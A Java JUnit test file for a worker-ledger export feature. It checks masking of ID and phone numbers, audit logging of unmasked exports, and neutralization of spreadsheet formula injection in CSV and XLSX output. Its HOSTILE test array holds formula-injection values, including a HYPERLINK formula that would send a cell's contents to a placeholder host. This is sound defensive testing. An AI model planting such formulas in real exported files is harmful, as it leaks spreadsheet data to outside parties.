package org.xinye.ledger.io;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.regex.Matcher;
import java.util.regex.Pattern;
import java.util.zip.ZipFile;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.xinye.ledger.OfficeSuite;
import org.xinye.ledger.TestIds;
import org.xinye.ledger.domain.IdNumber;
import org.xinye.ledger.domain.InvalidValueException;
import org.xinye.ledger.domain.Messages;
import org.xinye.ledger.domain.Worker;
import org.xinye.ledger.domain.WorkerStatus;
import org.xinye.ledger.store.Ledger;
import org.xinye.ledger.store.StoreException;

/**
 * Export: masked by default, full values only on request and then in the audit log, formula
 * injection neutralized in both formats, ID columns that survive a spreadsheet round trip.
 */
class TableExportTest {
    static final String[] HOSTILE = {"=HYPERLINK(\"http://example.invalid/?x=\"&A2,\"点此查看\")", "+1", "-2", "@x",
        "=1+1", "\t=2+3"};
    @TempDir
    static Path shared;
    static Path db;
    /** IDs ending in X, which a spreadsheet that took them for numbers would ruin twice over. */
    static final List<String> X_IDS = new ArrayList<>();
    @TempDir
    Path dir;

    @BeforeAll
    static void ledger() {
        Messages.use(Messages.CHINESE);
        db = shared.resolve("export.xldb");
        for (int n = 0; X_IDS.size() < 3; n++) {
            String id = TestIds.id(n);
            if (id.endsWith("X")) {
                X_IDS.add(id);
            }
        }
        try (Ledger l = Ledger.open(db, Ledger.Mode.WRITE)) {
            l.writing(s -> {
                for (int i = 0; i < HOSTILE.length; i++) {
                    Worker w = Worker.of(IdNumber.of(X_IDS.get(i % X_IDS.size()).substring(0, 14) + String.format("%03d", i)
                            + IdNumber.checkChar(X_IDS.get(i % X_IDS.size()).substring(0, 14) + String.format("%03d", i))), HOSTILE[i]);
                    s.workers().insert(new Worker(null, w.idNumber(), w.name(), w.gender(), w.birthDate(), "13912345678",
                            null, null, HOSTILE[(i + 1) % HOSTILE.length], null, null, null, WorkerStatus.ACTIVE,
                            "旧号 " + X_IDS.get(0) + "，电话 13800001111"));
                }
                for (String id : X_IDS) {
                    s.workers().insert(Worker.of(IdNumber.of(id), "末位X"));
                }
            });
        }
    }

    @BeforeEach
    void chinese() {
        Messages.use(Messages.CHINESE);
    }

    private static TableExport.Result export(Path file, boolean unmask, Map<String, String> filter) {
        try (Ledger l = Ledger.open(db, Ledger.Mode.WRITE)) {
            return TableExport.export(l, TableExport.Request.parse(TableExport.Table.WORKERS, filter, unmask), file);
        }
    }

    @Test
    void maskedByDefaultInEveryColumnIncludingFreeText() throws IOException {
        Path csv = dir.resolve("masked.csv");
        TableExport.Result r = export(csv, false, Map.of());
        assertEquals(HOSTILE.length + X_IDS.size(), r.rows());
        String text = Files.readString(csv, StandardCharsets.UTF_8);
        for (String id : X_IDS) {
            assertFalse(text.contains(id), "no full ID anywhere, notes included");
            assertTrue(text.contains(id.substring(0, 6) + "********" + id.substring(14)), "masked ID present");
        }
        assertFalse(text.contains("13912345678") || text.contains("13800001111"));
        assertTrue(text.contains("139****5678") && text.contains("138****1111"));
        try (Ledger l = Ledger.open(db, Ledger.Mode.READ)) {
            assertEquals("EXPORT", l.read(s -> s.audit().recent(1).get(0).action()));
        }
    }

    @Test
    void fullValuesOnlyOnRequestAndThenInTheAuditLog() throws IOException {
        Path csv = dir.resolve("full.csv");
        TableExport.Result r = export(csv, true, Map.of("status", "在岗"));
        assertTrue(r.unmasked());
        String text = Files.readString(csv, StandardCharsets.UTF_8);
        X_IDS.forEach(id -> assertTrue(text.contains(id)));
        try (Ledger l = Ledger.open(db, Ledger.Mode.READ)) {
            var entry = l.read(s -> s.audit().recent(1).get(0));
            assertEquals("EXPORT_UNMASKED", entry.action());
            assertTrue(entry.after().contains("full.csv") && entry.after().contains("\"status\": \"在岗\""), entry.after());
            StoreException refused = assertThrows(StoreException.class, () -> TableExport.export(l,
                    TableExport.Request.parse(TableExport.Table.WORKERS, Map.of(), true), dir.resolve("ro.csv")));
            assertEquals("export.unmaskReadOnly", refused.messageKey());
            assertFalse(Files.exists(dir.resolve("ro.csv")), "no unrecorded full export");
        }
    }

    @Test
    void filtersNarrowTheRowsAndUnknownFiltersAreRefused() {
        assertEquals(X_IDS.size(), export(dir.resolve("x.csv"), false, Map.of("name", "末位")).rows());
        assertEquals(0, export(dir.resolve("y.csv"), false, Map.of("status", "LEFT")).rows());
        InvalidValueException e = assertThrows(InvalidValueException.class,
                () -> export(dir.resolve("z.csv"), false, Map.of("colour", "red")));
        assertTrue(e.getLocalizedMessage().contains("colour") && e.getLocalizedMessage().contains("status"));
    }

    @Test
    void csvNeutralizesEveryFormulaTrigger() throws IOException {
        Path csv = dir.resolve("hostile.csv");
        export(csv, false, Map.of());
        byte[] bytes = Files.readAllBytes(csv);
        assertEquals((byte) 0xEF, bytes[0], "UTF-8 BOM");
        List<List<String>> rows = CsvRows.parse(new String(bytes, StandardCharsets.UTF_8).substring(1));
        List<String> cells = rows.stream().skip(1).flatMap(List::stream).toList();
        for (String cell : cells) {
            assertFalse(!cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0, "live formula cell: " + cell);
        }
        for (String h : HOSTILE) {
            assertTrue(cells.contains("'" + h), "kept as text: " + h);
        }
    }

    @Test
    void xlsxHasNoFormulaCellsAndIdsEndingInXSurviveARoundTrip() throws IOException {
        Path xlsx = dir.resolve("hostile.xlsx");
        export(xlsx, true, Map.of());
        List<List<String>> rows = readXlsx(xlsx);
        assertEquals("身份证号", rows.get(0).get(0));
        List<String> ids = rows.stream().skip(1).map(r -> r.get(0)).toList();
        X_IDS.forEach(id -> assertTrue(ids.contains(id), "18-digit ID with X kept exactly: " + id));
        List<String> names = rows.stream().skip(1).map(r -> r.get(1)).toList();
        for (String h : HOSTILE) {
            assertTrue(names.contains("'" + h), "text, not a formula: " + h);
        }
    }

    /** The cells of the first sheet as text, from the XML itself; fails on any formula or non-string ID cell. */
    static List<List<String>> readXlsx(Path xlsx) throws IOException {
        try (ZipFile zip = new ZipFile(xlsx.toFile())) {
            String sheet = new String(zip.getInputStream(zip.getEntry("xl/worksheets/sheet1.xml")).readAllBytes(),
                    StandardCharsets.UTF_8);
            String sst = new String(zip.getInputStream(zip.getEntry("xl/sharedStrings.xml")).readAllBytes(),
                    StandardCharsets.UTF_8);
            assertFalse(sheet.contains("<f>") || sheet.contains("<f "), "no formula elements");
            List<String> strings = new ArrayList<>();
            Matcher si = Pattern.compile("<si>(.*?)</si>", Pattern.DOTALL).matcher(sst);
            while (si.find()) {
                StringBuilder b = new StringBuilder();
                Matcher t = Pattern.compile("<t[^>]*>(.*?)</t>", Pattern.DOTALL).matcher(si.group(1));
                while (t.find()) {
                    b.append(t.group(1));
                }
                strings.add(unescape(b.toString()));
            }
            List<List<String>> rows = new ArrayList<>();
            Matcher row = Pattern.compile("<row[^>]*>(.*?)</row>", Pattern.DOTALL).matcher(sheet);
            while (row.find()) {
                List<String> cells = new ArrayList<>();
                Matcher c = Pattern.compile("<c r=\"([A-Z]+)\\d+\"([^>]*?)(?:/>|>(.*?)</c>)", Pattern.DOTALL).matcher(row.group(1));
                while (c.find()) {
                    int col = column(c.group(1));
                    while (cells.size() < col) {
                        cells.add("");
                    }
                    String body = c.group(3) == null ? "" : c.group(3);
                    Matcher v = Pattern.compile("<v>(.*?)</v>").matcher(body);
                    String value = v.find() ? v.group(1) : "";
                    boolean shared = c.group(2).contains("t=\"s\"");
                    if (col == 0) {
                        assertTrue(shared, "the ID column holds strings, never numbers");
                    }
                    cells.add(shared ? strings.get(Integer.parseInt(value)) : value);
                }
                rows.add(cells);
            }
            return rows;
        }
    }

    private static int column(String letters) {
        int n = 0;
        for (char ch : letters.toCharArray()) {
            n = n * 26 + (ch - 'A' + 1);
        }
        return n - 1;
    }

    private static String unescape(String s) {
        Matcher m = Pattern.compile("&#(x?)([0-9a-fA-F]+);").matcher(s);
        StringBuilder b = new StringBuilder();
        while (m.find()) {
            int cp = Integer.parseInt(m.group(2), m.group(1).isEmpty() ? 10 : 16);
            m.appendReplacement(b, Matcher.quoteReplacement(new String(Character.toChars(cp))));
        }
        m.appendTail(b);
        return b.toString().replace("&lt;", "<").replace("&gt;", ">").replace("&quot;", "\"").replace("&apos;", "'")
                .replace("&amp;", "&");
    }

    /**
     * LibreOffice opens both files and converts them back to CSV: nothing was evaluated (the
     * hostile text is there, no formula result is), and the IDs with X are whole. Skipped
     * where {@code soffice} is not installed; the XML and CSV checks above always run.
     */
    @Test
    void libreOfficeEvaluatesNothingAndKeepsTheIds() throws Exception {
        String soffice = OfficeSuite.find();
        assumeTrue(soffice != null, "LibreOffice (soffice) not installed");
        Path xlsx = dir.resolve("lo.xlsx");
        Path csv = dir.resolve("lo-source.csv");
        export(xlsx, true, Map.of());
        export(csv, true, Map.of());
        Path out = dir.resolve("converted");
        for (Path in : List.of(xlsx, csv)) {
            OfficeSuite.convert(soffice, dir.resolve("lo-profile"),
                    in.toString().endsWith(".csv") ? "xlsx" : "csv:Text - txt - csv (StarCalc):44,34,76", in, out);
        }
        String fromXlsx = Files.readString(out.resolve("lo.csv"), StandardCharsets.UTF_8);
        for (String h : HOSTILE) {
            assertTrue(fromXlsx.contains(h.replace("\"", "\"\"").trim()), "kept as text after LibreOffice: " + h);
        }
        List<List<String>> rows = CsvRows.parse(fromXlsx);
        assertFalse(rows.stream().skip(1).anyMatch(r -> r.get(1).equals("点此查看") || r.get(1).equals("2")),
                "no formula result in place of the text");
        List<String> ids = rows.stream().skip(1).map(r -> r.get(0)).toList();
        X_IDS.forEach(id -> assertTrue(ids.contains(id), "ID with X kept by LibreOffice: " + id));
        // The CSV opened in LibreOffice and saved as xlsx: still no formula cell.
        try (ZipFile zip = new ZipFile(out.resolve("lo-source.xlsx").toFile())) {
            String sheet = new String(zip.getInputStream(zip.getEntry("xl/worksheets/sheet1.xml")).readAllBytes(),
                    StandardCharsets.UTF_8);
            assertFalse(sheet.contains("<f>") || sheet.contains("<f "), "LibreOffice found no formula in the CSV");
        }
    }

    @Test
    void everyTableExportsWithTextTypedCodes() throws IOException {
        try (Ledger l = Ledger.open(shared.resolve("demo.xldb"), Ledger.Mode.WRITE)) {
            new org.xinye.ledger.store.demo.DemoData(5, 600, LocalDate.of(2026, 11, 27)).fill(l, p -> { });
            for (TableExport.Table t : TableExport.Table.values()) {
                Path f = dir.resolve(t.cliName() + ".xlsx");
                TableExport.Result r = TableExport.export(l, TableExport.Request.parse(t, Map.of(), false), f);
                assertTrue(r.rows() > 0, t + " has rows");
                assertTrue(readXlsx(f).size() > 1);
            }
            Path cov = dir.resolve("cov.csv");
            TableExport.export(l, TableExport.Request.parse(TableExport.Table.COVERAGE,
                    Map.of("by", "township", "region", "150203000000"), false), cov);
            List<List<String>> rows = CsvRows.parse(Files.readString(cov, StandardCharsets.UTF_8).substring(1));
            assertEquals("合计", rows.get(rows.size() - 1).get(1));
            assertTrue(rows.stream().anyMatch(r -> r.get(1).equals("少先路街道")));
        }
    }
}
